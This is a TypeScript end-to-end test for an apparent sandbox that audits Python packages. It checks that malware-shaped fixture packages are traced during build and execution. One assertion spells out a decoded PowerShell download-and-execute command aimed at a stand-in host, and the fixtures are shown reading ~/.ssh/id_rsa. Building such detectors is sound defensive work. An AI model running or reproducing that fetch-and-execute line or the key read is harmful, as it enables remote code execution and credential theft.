/**
 * End to end (bubblewrap, the real guest image): the payload of malware-shaped fixtures is reached.
 * `reach-setup`'s setup.py imports requests without declaring it (a fallback module), asks
 * os.getlogin() (the pty and login uid), renames a file into ~ (the home is on the work tree's
 * mount) and runs powershell -EncodedCommand with CREATE_NO_WINDOW (the Windows shims);
 * `execute-payload` does something only when its public function is called (the execute task).
 */
import { type AuditOutcome } from '@pyti/slave';
import { windowsShimFindings, type AuditReport } from '@pyti/common';
import { auditFixture, cleanupFixtureAudits } from './fixture-audit.js';

const task = (r: AuditReport, id: string) => r.tasks.find((t) => t.id === id)!;

describe('reaching the payload', () => {
  let reach: AuditOutcome;
  let exec: AuditOutcome;
  beforeAll(async () => {
    reach = await auditFixture('reach-setup');
    exec = await auditFixture('execute-payload');
  });
  afterAll(cleanupFixtureAudits);

  it('setup.py: the undeclared requests is served by the fallback modules, in the build phase only', () => {
    const r = reach.report;
    expect(task(r, 'build').status).toBe('pass');
    expect(r.reach!.fallbackModulesUsed).toEqual(expect.arrayContaining([{ phase: 'build', module: 'requests' }]));
    expect(r.reach!.fallbackModulesUsed.some((m) => m.phase === 'import')).toBe(false);
    // pip saw nothing of them: the install pulled in no requests
    expect(r.install!.installed!.map((i) => i.name)).toEqual(['reach-setup']);
    // requests is a declared build requirement missing from the wheelhouse: built all the same, and said so
    expect(r.build).toMatchObject({ mode: 'no-isolation', missingBuildRequirements: ['requests'] });
  });

  it('setup.py: os.getlogin() answers the slot user, and the rename into ~ succeeds (no EXDEV)', () => {
    const files = reach.report.traces.build!.files;
    const drop = files.find((f) => /\/\.reach-[a-z]+$/.test(f.path) && f.ops.includes('rename'));
    expect(drop).toBeDefined();
    expect(drop!.failed).toBe(false);
    const user = drop!.path.split('.reach-')[1]!;
    expect(user).toBe('alex');
    const paths = reach.report.guest!.paths!;
    expect([paths.home, ...(paths.homeAliases ?? [])].some((h) => drop!.path.startsWith(`${h}/`))).toBe(true);
  });

  it('setup.py: the powershell shim logged the decoded -EncodedCommand', () => {
    const cmds = reach.report.reach!.windowsCommands;
    // setup.py runs once per PEP 517 hook (requirements, then the wheel): one entry each, all in build
    expect(cmds.length).toBeGreaterThanOrEqual(1);
    for (const c of cmds) {
      expect(c.phase).toBe('build');
      expect(c.program).toBe('powershell');
      expect(c.argv).toEqual(expect.arrayContaining(['-EncodedCommand', '-WindowStyle', 'Hidden']));
      expect(c.decoded).toBe('IEX (New-Object Net.WebClient).DownloadString("http://pyti-stage2.invalid/a.ps1")');
    }
    expect(windowsShimFindings(cmds).map((f) => `${f.phase}:${f.rule}:${f.severity}`)).toEqual(['build:windows-powershell-payload:high']);
    expect(reach.report.reach!.execute!.calls).toEqual([expect.objectContaining({ kind: 'import', target: 'reach_setup', outcome: 'ok' })]);
  });

  it('execute: the payload in a public function runs only in the execute phase', () => {
    const r = exec.report;
    expect(task(r, 'import').status).toBe('pass');
    expect(task(r, 'execute').status).toBe('pass');
    const sshRead = (phase: 'import' | 'execute') => (r.traces[phase]?.files ?? []).some((f) => f.path.endsWith('/.ssh/id_rsa'));
    expect(sshRead('import')).toBe(false);
    expect(sshRead('execute')).toBe(true);
    const net = r.traces.execute!.network.filter((n) => n.op === 'connect');
    expect(net.map((n) => `${n.address}:${n.port}`)).toContain('127.0.0.1:9');
    const calls = r.reach!.execute!.calls;
    expect(calls).toEqual(expect.arrayContaining([
      expect.objectContaining({ kind: 'script', target: 'execute-payload-cli', outcome: 'ok' }),
      expect.objectContaining({ kind: 'function', target: 'execute_payload.start', outcome: 'ok' }),
      expect.objectContaining({ kind: 'class', target: 'execute_payload.Client', outcome: 'ok' }),
    ]));
    // the class was built with a harmless token ("") and its public method ran
    expect(r.traces.execute!.files.some((f) => f.path.endsWith('/.execute-payload-connected') && f.ops.includes('create'))).toBe(true);
    expect(r.traces.execute!.processes.some((p) => p.argv.join(' ').includes('execute-payload-cli --help'))).toBe(true);
  });
});
